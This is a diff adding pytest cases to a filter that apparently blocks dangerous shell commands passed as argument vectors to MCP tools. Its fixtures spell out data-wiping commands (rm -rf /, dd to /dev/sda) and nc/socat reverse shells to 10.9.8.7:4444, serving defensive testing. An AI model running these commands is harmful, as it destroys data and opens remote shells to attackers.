@@ -236,6 +236,48 @@ BENIGN: list[str] = [
 ]
 
 
+# Found: a command given as an argument vector passed, each piece alone being
+# harmless ("rm", "-rf", "/").  MCP shell tools commonly take argv.
+ARGV_FOUND: list[tuple[dict[str, object], str]] = [
+    ({"command": "rm", "args": ["-rf", "--no-preserve-root", "/"]}, RM),
+    ({"argv": ["rm", "-rf", "/"]}, RM),
+    ({"program": "nc", "argv": ["-e", "/bin/sh", "10.9.8.7", "4444"]}, REVSH),
+    ({"command": "dd", "args": ["if=/dev/zero", "of=/dev/sda"]}, "safe_mode.rce.disk_wipe"),
+    ({"command": "socat", "args": ["tcp:10.9.8.7:4444", "exec:sh"]}, REVSH),
+    ({"steps": [{"cmd": ["sudo", "rm", "-rf", "~"]}]}, RM),
+]
+ARGV_BENIGN: list[dict[str, object]] = [
+    {"command": "ls", "args": ["-la", "/"]},
+    {"command": "git", "args": ["rm", "-r", "--cached", "."]},
+    {"tags": ["rm", "linux", "/"]},
+    {"files": ["/workspace/a", "/workspace/b"]},
+    {"words": ["please", "do", "not", "rm", "anything"]},
+]
+
+
+def _decide_args(args: dict[str, object]) -> tuple[str, str | None]:
+    params = {"name": "run", "arguments": args}
+    call = Call(
+        call_id="rt", session="rt", transport="stdio", origin="client", kind="request",
+        rpc_id=1, method="tools/call", target="run", params=params,
+        params_json=canonical_json(params), identity=None,
+    )  # fmt: skip
+    d = evaluate(SAFE_ONLY, call, 0)
+    return d.verdict, d.rule_id
+
+
+@pytest.mark.parametrize(("args", "rule"), ARGV_FOUND, ids=lambda v: ascii(v)[:50])
+def test_commands_given_as_argv_are_judged_as_command_lines(
+    args: dict[str, object], rule: str
+) -> None:
+    assert _decide_args(args) == ("deny", rule)
+
+
+@pytest.mark.parametrize("args", ARGV_BENIGN, ids=lambda v: ascii(v)[:50])
+def test_benign_argv_stays_allowed(args: dict[str, object]) -> None:
+    assert _decide_args(args) == ("allow", None)
+
+
 @pytest.mark.parametrize(("text", "rule"), FOUND + HELD)
 def test_denied(text: str, rule: str) -> None:
     assert _decide(text) == ("deny", rule), ascii(text)
